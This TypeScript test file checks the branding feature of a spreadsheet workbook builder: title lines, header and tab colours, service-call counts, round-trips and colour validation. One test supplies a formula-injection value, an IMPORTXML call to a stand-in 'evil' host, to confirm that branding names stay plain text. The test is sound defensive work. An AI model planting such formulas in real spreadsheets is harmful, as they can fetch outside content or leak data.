// Branding built for real: dist/Code.js's buildWorkbook against the offline emulator, read back through
// what the user sees (emulator.view), the call counter, and loadPlanFromWorkbook.
import { parsePlan } from '../../src/core/plan/parse';
import { examplePlan, generatedPlan } from '../core/plan/fixtures';
import { openSession, roundTrips } from './helpers/emulatorBuild';

const BRANDING = { agency: 'Agence Nord', client: 'Boulangerie Martin', accentColor: '#0055AA' };

type Summary = { ok: boolean; warnings?: string[] };

describe('a branded build through dist/Code.js', () => {
  test('title rows, header colours with readable text, tab colours', () => {
    const { em, scope } = openSession();
    const summary = scope.buildWorkbook({ ...examplePlan(), branding: BRANDING }) as Summary;
    expect(summary).toMatchObject({ ok: true, warnings: [] });

    const line = 'Préparé par Agence Nord pour Boulangerie Martin';
    const objectives = em.view('Objectifs');
    expect(objectives.cell('E1').display).toBe(line);
    expect(em.view('Suivi').cell('B1').display).toMatch(
      /^Préparé par Agence Nord pour Boulangerie Martin · /,
    );
    expect(em.view('Tableau de bord').cell('A1').display).toBe(
      `Tableau de bord · Croissance e-commerce 2027 · ${line}`,
    );

    // Headers: Objectives row 8, Tracking row 3, Scorecard row 6: the accent with white text.
    for (const [sheet, a1] of [
      ['Objectifs', 'A8'],
      ['Objectifs', 'H8'],
      ['Suivi', 'A3'],
      ['Suivi', 'E3'],
      ['Tableau de bord', 'A6'],
    ] as const)
      expect(em.view(sheet).cell(a1)).toMatchObject({ background: '#0055aa', fontColor: '#ffffff' });
    expect(
      em
        .snapshot()
        .sheets.filter((s) => s.name !== 'Sheet1')
        .map((s) => s.tabColor?.toLowerCase()),
    ).toEqual(['#0055aa', '#0055aa', '#0055aa', '#0055aa']);
  });

  test('a light accent gets black header text', () => {
    const { em, scope } = openSession();
    scope.buildWorkbook({ ...examplePlan(), branding: { accentColor: '#FFD700' } });
    expect(em.view('Tableau de bord').cell('A6')).toMatchObject({
      background: '#ffd700',
      fontColor: '#000000',
    });
    // A colour alone adds no line.
    expect(em.view('Tableau de bord').cell('A1').display).toBe(
      'Tableau de bord · Croissance e-commerce 2027',
    );
    expect(em.view('Objectifs').cell('E1').display).toBe('');
  });

  test('names that look like formulas stay text on every sheet', () => {
    const { em, scope } = openSession();
    const branding = { agency: '=IMPORTXML("http://evil","//a")', client: '@client' };
    scope.buildWorkbook({ ...examplePlan(), branding });
    const objectives = em.view('Objectifs');
    expect(objectives.cell('F5').value).toBe(branding.agency);
    expect(objectives.cell('F6').value).toBe(branding.client);
    for (const [sheet, a1] of [
      ['Objectifs', 'E1'],
      ['Objectifs', 'F5'],
      ['Suivi', 'B1'],
      ['Tableau de bord', 'A1'],
    ] as const) {
      expect(em.view(sheet).cell(a1).formula).toBeFalsy();
      expect(em.view(sheet).cell(a1).error).toBeFalsy();
    }
    expect(em.view('Tableau de bord').cell('A1').display).toContain(branding.agency);
  });

  test('the same service calls as an unbranded build, method by method, first build and rebuild', () => {
    const counts = [undefined, BRANDING].map((branding) => {
      const { em, scope } = openSession();
      const plan = { ...generatedPlan(5), ...(branding ? { branding } : {}) };
      const build = () => {
        em.calls.reset();
        expect(scope.buildWorkbook(plan)).toMatchObject({ ok: true });
        return { roundTrips: roundTrips(em), total: em.calls.total, byMethod: em.calls.byMethod() };
      };
      return { first: build(), rebuild: build() };
    });
    const [plain, branded] = counts as [(typeof counts)[0], (typeof counts)[0]];
    expect(branded.first.byMethod).toEqual(plain.first.byMethod);
    expect(branded.rebuild.byMethod).toEqual(plain.rebuild.byMethod);
    expect(branded.first.roundTrips).toBe(plain.first.roundTrips);
    expect(branded.rebuild.roundTrips).toBe(plain.rebuild.roundTrips);
    // Printed for the report and docs/WORKBOOK.md.
    console.log(
      `round trips (all calls): unbranded first ${plain.first.roundTrips} (${plain.first.total}), rebuild ${plain.rebuild.roundTrips} (${plain.rebuild.total}); ` +
        `branded first ${branded.first.roundTrips} (${branded.first.total}), rebuild ${branded.rebuild.roundTrips} (${branded.rebuild.total})`,
    );
  });
});

describe('the Objectives round trip carries the branding', () => {
  test.each([
    ['all three fields', BRANDING],
    [
      'spaces, accents, a lower-case colour',
      { agency: '  L’Atelier  Écrit ', client: 'Café 2027', accentColor: '#00aa55' },
    ],
    ['a client only', { client: 'Martin Bakery' }],
    ['a colour only', { accentColor: '#FFD700' }],
    ['text that looks like a number or a formula', { agency: '0042', client: '=1+1' }],
  ])('%s', (_name, branding) => {
    const { scope } = openSession();
    const plan = { ...examplePlan(), branding };
    scope.buildWorkbook(plan);
    const expected = parsePlan(plan);
    if (!expected.ok) throw new Error('fixture invalid');
    expect(expected.plan.branding).toEqual(branding);
    expect(scope.loadPlanFromWorkbook()).toEqual({ ok: true, plan: expected.plan, ignored: [] });
  });

  test('a copy re-opened and rebuilt keeps its branding; branding typed in the sheet is picked up', () => {
    const { em, scope, ss } = openSession();
    scope.buildWorkbook(examplePlan());
    const objectives = ss.getSheetByName('Objectifs')!;
    expect(objectives.getRange('E5:E7').getValues().flat()).toEqual([
      'Préparé par (agence)',
      'Pour (client)',
      'Couleur d’accent (#RRGGBB)',
    ]);
    objectives.getRange('F5:F7').setValues([['Agence Nord'], ['Client Sud'], ['#0055AA']]);
    scope.rebuildFromWorkbook();
    expect(em.view('Tableau de bord').cell('A1').display).toMatch(/Préparé par Agence Nord pour Client Sud$/);
    expect(em.view('Tableau de bord').cell('A6').background).toBe('#0055aa');
    const read = scope.loadPlanFromWorkbook() as { ok: boolean; plan: { branding?: unknown } };
    expect(read.plan.branding).toEqual({
      agency: 'Agence Nord',
      client: 'Client Sud',
      accentColor: '#0055AA',
    });
  });

  test('a bad colour typed in the sheet is refused at its cell, nothing rebuilt', () => {
    const { em, scope, ss } = openSession({ userLocale: 'en_US' });
    scope.buildWorkbook({ ...examplePlan(), language: 'en' });
    ss.getSheetByName('Objectives')!.getRange('F7').setValue('navy');
    const before = em.snapshot();
    scope.rebuildFromWorkbook();
    expect(em.snapshot().sheets.map((s) => s.cells)).toEqual(before.sheets.map((s) => s.cells));
    expect(em.ui.alerts[0]?.prompt).toContain('Objectives!F7: expected a colour like #0055AA, got "navy"');
    expect(scope.loadPlanFromWorkbook()).toMatchObject({
      ok: false,
      problems: [{ path: 'branding.accentColor', cell: 'Objectives!F7' }],
    });
  });
});
